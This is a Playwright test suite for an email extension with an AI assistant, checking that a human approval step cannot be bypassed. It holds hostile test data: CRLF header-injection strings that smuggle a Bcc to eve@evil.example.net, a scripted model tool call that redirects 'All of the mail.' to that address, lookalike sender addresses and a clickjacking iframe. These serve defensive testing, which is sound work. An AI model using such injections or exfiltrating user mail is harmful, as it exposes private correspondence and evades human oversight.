import { holdFor, review, sign } from './acting-steps'
import { approvalOf, openStage, type Stage, shownFor, toGuests, write } from './attack-stage'
import { expect, mail, test } from './fixtures'
import { forge } from './forged'
import { ask, gmail, openGmail, openSidebar } from './steps'
import { worldGeminiKey } from './world/gemini/gemini'

let stage: Stage
test.beforeAll(async () => {
  stage = await openStage()
})
test.afterAll(() => stage.close())

const sends = () => stage.world.google.effects.filter(({ path }) => path.endsWith('/drafts/send'))
const rawOf = (effect: { body: unknown } | undefined): string =>
  Buffer.from((effect?.body as { message: { raw: string } } | undefined)?.message.raw ?? '', 'base64url').toString()

test.describe('what is signed', () => {
  test('is what was shown, though a mind says more and proposes again meanwhile', async () => {
    const { popup, card: newest } = await shownFor(stage)
    const card = stage.sidebar.locator(`[data-card="${await newest.getAttribute('data-card')}"]`)
    const changed = { name: 'send_email', args: { to: ['eve@evil.example.net'], subject: 'The lift', body: 'All of the mail.' } }
    stage.world.gemini.script([{ calls: [changed] }, { text: 'I changed the mail.' }])
    expect(await ask(stage.sidebar, 'Change what you drafted')).toBe('answered')
    await expect(popup.locator('[data-head=to]')).toContainText('carlos@example.org')
    await expect(popup.locator('[data-head=to]')).not.toContainText('eve@evil.example.net')
    await sign(popup)
    await expect(card).toHaveAttribute('data-state', 'done')
    expect(sends().map(effect => /^To: .*/m.exec(rawOf(effect))?.[0])).toEqual(['To: <carlos@example.org>'])
    await expect(newest).toHaveAttribute('data-state', 'proposed')
  })

  test('is approved once by two workers that race for it', async () => {
    const { popup, card } = await shownFor(stage)
    await popup.waitForTimeout(900)
    const once = { name: 'sign.approve', input: await approvalOf(popup) }
    await popup.waitForTimeout(900)
    const [first] = await Promise.all([forge(popup, [once]).catch(() => ['closed']), stage.app.killWorker()])
    const second = await forge(popup, [once]).catch(() => ['closed'])
    const approved = [...first, ...second].filter(answer => answer === 'done: "approved"').length
    expect(approved).toBeLessThanOrEqual(1)
    // An approval whose answer died with its worker counts all the same; without any the card still waits.
    await expect(card).toHaveAttribute('data-state', approved > 0 ? 'done' : /^(?:done|proposed)$/)
    expect(sends()).toHaveLength((await card.getAttribute('data-state')) === 'done' ? 1 : 0)
    await popup.close().catch(() => undefined)
  })

  test('is sent once where the answer of Google is lost, and is said to be so', async () => {
    const { popup, card } = await shownFor(stage)
    stage.world.faults.add({ on: 'POST /gmail/v1/users/me/drafts/send', nth: 1, do: 'commit-drop' })
    await sign(popup)
    await expect(card).toHaveAttribute('data-state', 'done')
    stage.world.faults.clear()
    expect(sends()).toHaveLength(1)
  })
})

test('no page can frame the signing page, whatever it lays over it', async () => {
  const { popup } = await shownFor(stage)
  const url = `chrome-extension://${stage.app.id}/extension/sign.html`
  await stage.page.evaluate(src => {
    const frame = document.createElement('iframe')
    frame.id = 'framed'
    frame.src = src
    frame.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;opacity:0.01;z-index:99999;transform:scale(2)'
    document.body.append(frame)
  }, url)
  await stage.page.waitForTimeout(1000)
  const shown = stage.page.frames().filter(frame => frame.url().startsWith(url))
  expect(shown).toEqual([])
  await stage.page.evaluate(() => document.querySelector('#framed')?.remove())
  await popup.close()
  expect(stage.effects()).toEqual([])
})

test.describe('an address', () => {
  test('that would start a header of its own, in a subject or before a name, is refused', async () => {
    for (const args of [
      { to: ['carlos@example.org'], subject: 'The lift\r\nBcc: eve@evil.example.net', body: 'Third floor.' },
      { to: ['carlos@example.org\r\nBcc: eve@evil.example.net'], subject: 'The lift', body: 'Third floor.' },
      { to: ['"boss@example.com" <eve@evil.example.net>'], subject: 'The lift', body: 'Third floor.' },
    ]) {
      const card = await stage.proposed(write, { name: 'send_email', args })
      await expect(card).toHaveAttribute('data-state', 'blocked')
      await expect(card.locator('[data-review]')).toHaveCount(0)
    }
    expect(stage.effects()).toEqual([])
  })

  for (const [what, from, replyTo] of [
    ['to which Reply-To leads an answer away', 'Carlos <carlos@example.org>', 'Carlos <carlos@evil.example.net>'],
    ['behind a name that is another address', '"carlos@example.org" <office@evil.example.net>', ''],
  ] as const)
    test(`${what} is shown whole and asks for a second step`, async () => {
      const lines = [`From: ${from}`, `To: ${stage.owner}`, 'Subject: Parking', `Message-ID: <parking-${replyTo.length}@example.org>`]
      const raw = [...lines, ...(replyTo ? [`Reply-To: ${replyTo}`] : []), '', 'Where may I park?'].join('\r\n')
      const { id } = stage.world.deliver(stage.owner, raw)
      const reply = { name: 'reply', args: { messageId: id, body: 'In the yard.' } }
      const { popup } = await shownFor(stage, 'Reply to Carlos about parking', reply)
      await expect(popup.locator('[data-head=to]')).toContainText('@evil.example.net')
      await expect(popup.locator('[data-warning=LOOKALIKE][data-level=red]')).toBeVisible()
      await expect(popup.locator('#second')).toBeVisible()
      await popup.close()
      expect(stage.effects()).toEqual([])
    })
})

test('goes out from the account that it was proposed in, though Gmail shows another one by then', async ({ app, world }) => {
  const [ada, bo] = ['ada@example.com', 'bo@example.org']
  const letter = (to: string) =>
    mail({ id: `concert-${to}`, from: 'Kim Vale <kim@example.net>', to, subject: 'Concert', text: 'At seven?', at: '2026-11-20T10:00:00Z' })
  for (const address of [ada, bo]) {
    world.addAccount({ address, messages: [letter(address)] })
    const options = await app.signIn(address)
    if (address === ada) {
      await app.allow(options, ada)
      await options.fill('#gemini-key', worldGeminiKey)
      await options.click('#save-key')
      await options.locator('form:has(#gemini-key) [data-outcome=done]').waitFor()
      await options.locator('input[name=mind][value=gemini]').click()
      await holdFor(options, 0)
    }
    await options.close()
  }
  const page = await openGmail(app)
  const sidebar = await openSidebar(app, page)
  world.gemini.script([{ calls: [toGuests] }, { text: 'I drafted a mail.' }])
  expect(await ask(sidebar, write)).toBe('answered')
  const popup = await review(app, sidebar.locator('[data-card]'))
  await page.goto(gmail(1))
  await page.locator('tr.zA').first().waitFor()
  await popup.bringToFront()
  await expect(popup.locator('.account')).toContainText(ada)
  await sign(popup)
  await expect
    .poll(() => world.google.effects.map(({ path, account }) => [path.split('/').at(-1), account]))
    .toEqual([
      ['drafts', ada],
      ['send', ada],
    ])
})
